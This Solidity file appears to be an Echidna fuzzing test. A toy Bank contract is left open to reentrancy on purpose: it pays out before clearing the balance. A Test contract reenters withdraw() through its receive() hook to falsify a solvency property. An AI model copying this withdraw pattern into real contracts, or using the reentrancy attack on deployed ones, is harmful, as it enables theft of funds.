// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// falsified echidna_solvent
// contract: Test
contract Bank {
    mapping(address => uint256) public credit; uint256 public owed;
    function deposit() public payable { credit[msg.sender] += msg.value; owed += msg.value; }
    function withdraw() public { uint256 amount = credit[msg.sender]; if (amount == 0) return; (bool ok,) = msg.sender.call{value: amount}(""); require(ok); credit[msg.sender] = 0; owed -= amount > owed ? owed : amount; }
}
contract Test {
    Bank bank = new Bank(); uint8 depth;
    function fund() public payable { bank.deposit{value: msg.value}(); }
    function feed() public payable { (bool ok,) = address(bank).call{value: 0}(""); ok; honest += msg.value; Helper(helper).deposit{value: msg.value}(bank); }
    uint256 honest; address helper = address(new Helper());
    function attack() public { depth = 0; bank.withdraw(); }
    receive() external payable { if (depth++ < 1 && address(bank).balance >= bank.credit(address(this))) bank.withdraw(); }
    function echidna_solvent() public view returns (bool) { return address(bank).balance >= honest; }
}
contract Helper { function deposit(Bank bank) public payable { bank.deposit{value: msg.value}(); } }
